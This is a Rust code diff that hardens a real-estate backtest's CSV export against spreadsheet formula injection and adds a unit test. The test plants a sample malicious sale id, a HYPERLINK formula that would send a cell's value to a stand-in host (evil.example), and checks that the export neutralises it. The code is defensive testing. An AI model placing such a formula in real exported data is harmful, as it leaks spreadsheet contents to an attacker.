@@ -2,7 +2,8 @@
 //! writes predictions.csv, metrics.json and backtest.png (skipped, with a note, without the font).
 use super::{bar, open_tenant, write_json};
 use crate::analytics::comps::plot::{ratio_by_decile, write_backtest_png};
-use crate::analytics::comps::{Backtest, CompConfig, MODEL_VERSION, run_backtest_with_progress};
+use crate::analytics::comps::{Backtest, BacktestPrediction, CompConfig, MODEL_VERSION, run_backtest_with_progress};
+use crate::analytics::csv_safe::{Cell, SafeCsv};
 use crate::config::Settings;
 use crate::persistence::repositories::sales;
 use anyhow::Context;
@@ -20,10 +21,10 @@ pub struct BacktestArgs {
     #[arg(long)]
     pub tenant: String,
     /// First subject sale date (YYYY-MM-DD).
-    #[arg(long)]
+    #[arg(long, value_parser = super::parse_date)]
     pub from: NaiveDate,
     /// Last subject sale date (YYYY-MM-DD).
-    #[arg(long)]
+    #[arg(long, value_parser = super::parse_date)]
     pub to: NaiveDate,
     /// Output folder.
     #[arg(long, default_value = "artifacts/backtest")]
@@ -89,18 +90,28 @@ pub async fn run(settings: &Settings, args: &BacktestArgs) -> anyhow::Result<()>
 }
 
 fn write_predictions(path: &Path, bt: &Backtest) -> anyhow::Result<()> {
-    let mut f =
-        std::io::BufWriter::new(std::fs::File::create(path).with_context(|| format!("writing {}", path.display()))?);
-    writeln!(f, "sale_id,sale_price,estimate,low_80,high_80,comps_used")?;
-    for p in &bt.predictions {
-        writeln!(
-            f,
-            "{},{:.0},{:.0},{:.0},{:.0},{}",
-            p.sale_id, p.sale_price, p.estimate, p.low_80, p.high_80, p.comps_used
-        )?;
+    let f = std::fs::File::create(path).with_context(|| format!("writing {}", path.display()))?;
+    predictions_csv(std::io::BufWriter::new(f), &bt.predictions)
+        .and_then(|mut w| Ok(w.flush()?))
+        .with_context(|| format!("writing {}", path.display()))
+}
+
+/// predictions.csv: through the csv crate, sale ids neutralized against formula injection
+/// (docs/csv-exports.md); prices to the dollar.
+fn predictions_csv<W: Write>(out: W, predictions: &[BacktestPrediction]) -> anyhow::Result<W> {
+    let header = ["sale_id", "sale_price", "estimate", "low_80", "high_80", "comps_used"];
+    let mut w = SafeCsv::new(out, &header)?;
+    for p in predictions {
+        w.row(&[
+            Cell::Text(&p.sale_id),
+            Cell::Number(p.sale_price, 0),
+            Cell::Number(p.estimate, 0),
+            Cell::Number(p.low_80, 0),
+            Cell::Number(p.high_80, 0),
+            Cell::Int(i64::try_from(p.comps_used).unwrap_or(i64::MAX)),
+        ])?;
     }
-    f.flush()?;
-    Ok(())
+    Ok(w.finish()?)
 }
 
 /// The picture is evidence, not the result: a missing font or a drawing failure is reported and
@@ -145,5 +156,52 @@ fn print_summary(bt: &Backtest, seconds: f64) {
             m.coverage
                 .map_or_else(|| "n/a".to_owned(), |v| format!("{:.1} %", 100.0 * v)),
         );
+    }
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::*;
+    use crate::analytics::comps::run_backtest;
+    use crate::analytics::comps::testdata::synthetic_sales;
+
+    /// A sale id that is a spreadsheet formula comes out of a real backtest's predictions.csv as
+    /// text, and negative-looking ids too; numbers are untouched.
+    #[test]
+    fn predictions_csv_neutralizes_formula_sale_ids() {
+        let mut sales = synthetic_sales(400, 5);
+        let from = NaiveDate::from_ymd_opt(2008, 10, 1).unwrap();
+        let to = NaiveDate::from_ymd_opt(2008, 12, 31).unwrap();
+        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        let subjects: Vec<String> = crate::analytics::comps::backtest_subjects(&sales, from, to)
+            .iter()
+            .take(2)
+            .map(|s| s.id.clone())
+            .collect();
+        for s in &mut sales {
+            if s.id == subjects[0] {
+                s.id = evil.to_owned();
+            } else if s.id == subjects[1] {
+                s.id = "-2+3".to_owned();
+            }
+        }
+        let bt = run_backtest(&sales, from, to, &CompConfig::default()).unwrap();
+        let bytes = predictions_csv(Vec::new(), &bt.predictions).unwrap();
+        let text = String::from_utf8(bytes).unwrap();
+        assert!(
+            !text.lines().any(|l| l.starts_with('=') || l.starts_with('-')),
+            "{text}"
+        );
+        let mut rdr = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
+        assert_eq!(rows.len(), bt.predictions.len());
+        let ids: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
+        assert!(ids.contains(&format!("'{evil}").as_str()), "{ids:?}");
+        assert!(ids.contains(&"'-2+3"), "{ids:?}");
+        for (r, p) in rows.iter().zip(&bt.predictions) {
+            assert_eq!(r[1].parse::<f64>().unwrap(), p.sale_price.round());
+            assert_eq!(r[5].parse::<usize>().unwrap(), p.comps_used);
+        }
     }
 }
